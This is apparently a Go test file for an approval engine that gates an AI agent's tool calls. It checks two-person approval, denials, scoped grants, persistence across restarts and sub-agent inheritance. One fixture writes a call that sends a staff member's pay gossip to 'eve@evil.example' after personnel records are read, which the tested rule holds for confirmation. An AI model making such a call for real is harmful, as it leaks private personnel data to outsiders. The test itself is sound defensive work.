package engine_test

import (
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/tidemark/tidemark/internal/engine"
	"github.com/tidemark/tidemark/internal/event"
	"github.com/tidemark/tidemark/policy"
	"github.com/tidemark/tidemark/tool"
	"github.com/tidemark/tidemark/trust"
)

// both takes two different people, neither of whom is called mallory.
type both struct{ cases []engine.QuestionInfo }

func (b *both) Allows(c engine.QuestionInfo, by string, agreed []string) (bool, error) {
	b.cases = append(b.cases, c)
	if by == "mallory" || slices.Contains(agreed, by) {
		return false, engine.ErrApprover
	}
	return len(agreed) > 0, nil
}

// BEY-10 PRV-18: a question that takes two people stays open after the first, with a new code
// too, runs nothing, and is approved by the second. Everything is in the log.
func TestTwoPeopleApprove(t *testing.T) {
	w, c, _ := held(t, byLevels)
	approvers := &both{}
	again := func() {
		w.Monitor = newMonitor(t, engine.Options{Policy: parse(t, byLevels), Store: w.store, Now: w.clock.Now, Rand: newDice(), Approvers: approvers})
	}
	again()
	id := w.want(policy.Confirm, main("s"), c).Held.ID
	vote := func(by string, change func(*engine.Vote)) (engine.Outcome, error) {
		v := engine.Vote{Session: "s", IDs: []string{id}, Approve: true, By: by, Via: "http"}
		if change != nil {
			change(&v)
		}
		return w.Answer(t.Context(), v)
	}
	if _, err := vote("ada", func(v *engine.Vote) { v.For = 60e9 }); !errors.Is(err, engine.ErrApprover) {
		t.Errorf("one of two opens more than the call: %v", err)
	}
	out, err := vote("ada", nil)
	if err != nil || !strings.Contains(out.Notice, "One more person must approve") {
		t.Fatalf("got %q, %v", out.Notice, err)
	}
	w.clock.advance(3 * time.Minute) // the code is over, the question is not
	if got := w.want(policy.Confirm, main("s"), c).Held.ID; got != id {
		t.Fatalf("asked with %s, want the same question", got)
	}
	again() // nothing of it is in memory alone
	if q, err := w.Question(t.Context(), "s", id); err != nil || !q.Pending() || !slices.Equal(q.Agreed, []string{"ada"}) {
		t.Fatalf("after a restart: got %s with %v, %v", q.State, q.Agreed, err)
	}
	for _, by := range []string{"ada", "mallory"} {
		if _, err := vote(by, nil); !errors.Is(err, engine.ErrApprover) {
			t.Errorf("%s: got %v", by, err)
		}
	}
	if q, _ := w.Question(t.Context(), "s", id); !slices.Equal(q.Agreed, []string{"ada"}) || !strings.Contains(q.Text(), "Approved so far by: ada") {
		t.Errorf("agreed %v: %s", q.Agreed, q.Text())
	}
	if _, err := vote("bob", nil); err != nil {
		t.Fatal(err)
	}
	w.want(policy.Allow, main("s"), c)
	w.want(policy.Confirm, main("s"), c) // once was once
	var said []string
	for e, err := range w.Events(t.Context(), "s") {
		if err != nil {
			t.Fatal(err)
		}
		if e.Kind == event.Answered {
			said = append(said, e.Answer.By+" "+e.Answer.Verdict)
		}
	}
	if !slices.Contains(said, "ada agree") || said[len(said)-1] != "bob approve" {
		t.Errorf("the log says %v", said)
	}
	if got := approvers.cases[0]; got.Tool != "deploy" || got.Asked.IsZero() || got.Now.Before(got.Asked) {
		t.Errorf("they were asked about %+v", got)
	}
}

// Denying is everybody's, and ends a question that one has approved.
func TestADenialIsNeverPutToApproverRules(t *testing.T) {
	w, c, _ := held(t, byLevels)
	w.Monitor = newMonitor(t, engine.Options{Policy: parse(t, byLevels), Store: w.store, Now: w.clock.Now, Rand: newDice(), Approvers: &both{}})
	id := w.want(policy.Confirm, main("s"), c).Held.ID
	for _, approve := range []bool{true, false} {
		by := map[bool]string{true: "ada", false: "mallory"}[approve]
		if _, err := w.Answer(t.Context(), engine.Vote{Session: "s", IDs: []string{id}, Approve: approve, By: by, Via: "http"}); err != nil {
			t.Fatal(err)
		}
	}
	w.want(policy.Deny, main("s"), c)
}

// The rules for people hold for releasing a held write too.
//
// BEY-08 BEY-10
func TestOneOfTwoReleasesNoWrite(t *testing.T) {
	w, id := quarantined(t, "")
	w.Monitor = newMonitor(t, engine.Options{Policy: parse(t, ""), Store: w.store, Now: w.clock.Now, Rand: newDice(), Approvers: &both{}})
	for _, by := range []string{"ada", "mallory"} {
		if _, err := w.Review(t.Context(), "s", id, true, by, "http"); !errors.Is(err, engine.ErrApprover) {
			t.Errorf("%s alone: %v", by, err)
		}
	}
	if _, err := w.Review(t.Context(), "s", id, false, "ada", "http"); err != nil {
		t.Errorf("a denial is put to nobody: %v", err)
	}
}

// What a rule could not look through is agreed to once, and for nothing like it.
func TestAGrantCoversNothingThatWasTooLargeToBeLookedAt(t *testing.T) {
	w := newWorld(t, "rules:\n  - {name: no-evil, tools: [write_file], when: 'args.content.contains(\"evil\")', effect: deny}\n")
	w.ownerSays("s", "write the report")
	large := func(end string) tool.Call {
		return call("write_file", `{"path":"out.txt","content":"`, strings.Repeat("x", 300<<10), end, `"}`)
	}
	q := w.want(policy.Confirm, main("s"), large("")).Held
	if _, err := w.Answer(t.Context(), engine.Vote{Session: "s", IDs: []string{q.ID}, Approve: true, By: "desk", Via: "http", For: 10 * time.Minute}); err != nil {
		t.Fatal(err)
	}
	w.want(policy.Confirm, main("s"), large("evil"))
}

// What one person opened for a while does not open what takes two.
func TestAGrantOfOneCoversNothingThatTakesTwo(t *testing.T) {
	w, c, _ := held(t, byLevels)
	id := w.want(policy.Confirm, main("s"), c).Held.ID
	if _, err := w.Answer(t.Context(), engine.Vote{Session: "s", IDs: []string{id}, Approve: true, By: "ada", Via: "http", For: 10 * time.Minute}); err != nil {
		t.Fatal(err)
	}
	w.want(policy.Allow, main("s"), c)
	w.Monitor = newMonitor(t, engine.Options{Policy: parse(t, byLevels), Store: w.store, Now: w.clock.Now, Rand: newDice(), Approvers: &both{}})
	w.want(policy.Confirm, main("s"), c)
}

// companyRules are order, once, a second person and readers, as a file has them.
const companyRules = `
groups: {staff: [head@quay.example]}
trustRules: [{name: personnel, tools: [open_personnel], readers: [staff]}]
rules:
  - {name: first, tools: [release_notes], onlyAfter: [file_review], effect: deny}
  - {name: notice, tools: [post_notice], once: args.berth, effect: deny}
  - {name: two, tools: [book_transfer], people: 2, effect: ask}
toolOverrides: {release_notes: {"*": allow}, post_notice: {"*": allow}, file_review: {"*": allow}, open_personnel: {"*": allow}, send_letter: {"*": allow}}
`

// BEY-10 AUD-02: what rules want known of a session is in its log: a restart knows it, and a sub-agent what its parent has read. A rule takes
// two people where nobody said whose approval counts, and no host's dialog stands for them.
func TestCompanyRulesOutliveARestart(t *testing.T) {
	w := newWorld(t, companyRules)
	w.ownerSays("s", "File the review, then release the notes and tell head@quay.example")
	release, ref := call("release_notes", `{}`), main("s")
	w.want(policy.Deny, ref, release)
	if _, err := w.Observe(t.Context(), engine.Observation{Ref: ref, Result: tool.Result{Name: "file_review", Error: true}}); err != nil {
		t.Fatal(err)
	}
	w.want(policy.Deny, ref, release) // it failed
	w.want(policy.Allow, ref, call("file_review", `{}`))
	w.want(policy.Deny, ref, release) // it has not answered
	w.observe(ref, "file_review", "filed")
	w.want(policy.Allow, ref, call("post_notice", `{"berth":"B-4"}`))
	w = w.again()
	w.want(policy.Allow, ref, release)
	w.want(policy.Deny, ref, call("post_notice", `{"berth":"b4"}`))
	w.want(policy.Allow, ref, call("post_notice", `{"berth":"B-5"}`))
	w.want(policy.Allow, ref, call("open_personnel", `{}`))
	w = w.again()
	w.want(policy.Confirm, ref, release) // it goes to everybody
	out := call("send_letter", `{"to":"eve@evil.example","body":"She earns well, they say"}`)
	if v := w.want(policy.Confirm, ref, out); v.Rule != "trustRules.personnel" {
		t.Errorf("held by %s", v.Rule)
	}
	task := "Write to her"
	w.begin(engine.Turn{Ref: main("child"), Sender: trust.Sender{Provider: "discord", SpawnedBy: "s"}, Message: &task})
	w.want(policy.Confirm, main("child"), out)

	book := call("book_transfer", `{"account":"QY-1"}`)
	v, err := w.Decide(t.Context(), ref, book, engine.InDialog("claude"))
	if err != nil || v.Held == nil || v.Held.People != 2 {
		t.Fatalf("got %+v, %v; want a question for two", v.Held, err)
	}
	if !strings.Contains(v.Held.Text(), "It takes: 2 people") {
		t.Errorf("the question does not say that it takes two:\n%s", v.Held.Text())
	}
	if err := w.Ran(t.Context(), ref, book, "claude"); err == nil {
		if q, _ := w.Question(t.Context(), "s", v.Held.ID); !q.Pending() {
			t.Error("a host's word for it counts as two people")
		}
	}
	vote := func(by string, task bool) error {
		_, err := w.Answer(t.Context(), engine.Vote{Session: "s", IDs: []string{v.Held.ID}, Approve: true, By: by, Via: "http", Task: task})
		return err
	}
	if err := vote("ada", true); !errors.Is(err, engine.ErrApprover) {
		t.Errorf("one of two opens the task: %v", err)
	}
	if err := vote("ada", false); err != nil {
		t.Fatal(err)
	}
	w = w.again()
	w.want(policy.Confirm, ref, book)
	if err := vote("ada", false); !errors.Is(err, engine.ErrApprover) {
		t.Errorf("the same person twice: %v", err)
	}
	if err := vote("bo", false); err != nil {
		t.Fatal(err)
	}
	w.want(policy.Allow, ref, book)
	w.want(policy.Confirm, ref, book)
}
